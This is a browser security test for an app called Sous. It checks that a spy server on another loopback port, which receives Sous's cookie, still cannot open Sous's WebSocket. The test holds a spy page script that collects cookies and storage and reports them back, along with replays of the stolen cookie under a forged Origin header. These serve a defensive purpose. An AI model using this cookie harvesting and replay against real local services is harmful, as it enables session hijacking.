import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { WebSocket } from 'ws'
import { proof } from '../src/main/host/auth'
import { expect, test } from './fixtures'
import { expectProjectOpen, openByPath } from './support/app'

// The browser host's credential stays with its own port, in real Chromium: a second server on
// 127.0.0.1 (another port) that the same browser visits receives Sous's cookie — cookies ignore
// ports — but nothing in it opens Sous's WebSocket, from a script on that server's page or from
// the server itself replaying it with any headers it likes.

/** A loopback server that records every request's headers and serves one probing page. */
async function startSpy(sousPort: number): Promise<{ server: Server; origin: string; seen: IncomingHttpHeaders[]; reports: Promise<Record<string, string>> }> {
  const seen: IncomingHttpHeaders[] = []
  let report: (value: Record<string, string>) => void = () => undefined
  const reports = new Promise<Record<string, string>>((resolve) => (report = resolve))
  const page = `<!doctype html><title>spy</title><script>
const out = { storage: String(localStorage.length), cookie: document.cookie }
const done = () => fetch('/report?' + new URLSearchParams(out))
fetch('http://127.0.0.1:${sousPort}/', { credentials: 'include', mode: 'no-cors' }).then(() => (out.fetch = 'sent'), () => (out.fetch = 'failed'))
const ws = new WebSocket('ws://127.0.0.1:${sousPort}/ws', ['sous.v1'])
ws.onopen = () => { out.ws = 'open'; done() }
ws.onclose = () => { out.ws = out.ws || 'refused'; done() }
</script>`
  const server = createServer((request, response) => {
    seen.push(request.headers)
    const url = new URL(request.url ?? '/', 'http://spy.invalid')
    if (url.pathname === '/report') report(Object.fromEntries(url.searchParams))
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(url.pathname === '/' ? page : '')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, reports }
}

/** Tries Sous's WebSocket as a non-browser client would, with whatever it stole. */
function tryUpgrade(url: string, protocols: string[], headers: Record<string, string>, origin: string): Promise<number | 'open'> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(url, protocols, { headers, origin })
    ws.once('open', () => {
      ws.terminate()
      resolve('open')
    })
    ws.once('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0))
    ws.once('error', reject)
  })
}

test('a second loopback server on another port never receives a usable credential', async ({ host, app, lazyServe, projectDir }) => {
  test.skip(host === 'electron', 'the desktop app has no cookie and no WebSocket')
  // The page is connected: opening a project (and its terminal, pty.*) works over the WebSocket.
  await openByPath(app, projectDir)
  const sous = new URL(app.url())
  // Neither the token nor the socket key is left in the address bar.
  expect(app.url()).toBe(`${sous.origin}/`)
  const port = Number(sous.port)
  const token = new URL(await lazyServe()).searchParams.get('token')!
  // The page holds its socket key (derived from the token for its origin) in its origin's storage.
  const key = await app.evaluate(() => (globalThis as unknown as { localStorage: { getItem(name: string): string | null } }).localStorage.getItem('sous.socketKey'))
  expect(key).toBe(proof(token, 'socket', sous.origin))

  const spy = await startSpy(port)
  try {
    const probe = await app.context().newPage()
    await probe.goto(`${spy.origin}/`)
    const report = await spy.reports
    // Cookies ignore ports: the spy did get Sous's cookie…
    const cookieHeader = spy.seen.map((headers) => headers.cookie ?? '').find((value) => value.includes(`sous_page_${port}=`))
    expect(cookieHeader, 'the browser sends the page cookie to the other port').toBeDefined()
    const stolen = /sous_page_\d+=([0-9a-f]+)/.exec(cookieHeader!)![1]!
    // …but not the token nor the key: the page value, bound to Sous's origin. And the spy's own
    // page can read neither Sous's storage nor the HttpOnly cookie, nor open the WebSocket.
    expect(stolen).toBe(proof(token, 'page', sous.origin))
    for (const header of spy.seen.map((headers) => JSON.stringify(headers))) {
      expect(header).not.toContain(token)
      expect(header).not.toContain(key!)
    }
    expect(report).toMatchObject({ storage: '0', cookie: '', ws: 'refused' })

    // Replayed by the spy itself, with Sous's own Origin forged, the cookie opens no WebSocket.
    const wsUrl = `ws://127.0.0.1:${port}/ws`
    const cookie = { Cookie: `sous_page_${port}=${stolen}` }
    expect(await tryUpgrade(wsUrl, ['sous.v1'], cookie, sous.origin)).toBe(401)
    expect(await tryUpgrade(wsUrl, ['sous.v1', `sous-key.${stolen}`], cookie, sous.origin)).toBe(401)
    expect(await tryUpgrade(`${wsUrl}?token=${stolen}`, ['sous.v1'], cookie, sous.origin)).toBe(401)
    expect((await fetch(`${sous.origin}/?token=${stolen}`, { redirect: 'manual' })).status).toBe(401)
    // The key the page holds does open it (so the refusals above are about the credential).
    expect(await tryUpgrade(wsUrl, ['sous.v1', `sous-key.${key}`], {}, sous.origin)).toBe('open')
    await probe.close()
  } finally {
    await new Promise((resolve) => spy.server.close(resolve))
  }

  // A reload keeps working from the stored key (the URL no longer has the token).
  await app.reload()
  await openByPath(app, projectDir)
  await expectProjectOpen(app, projectDir)
})
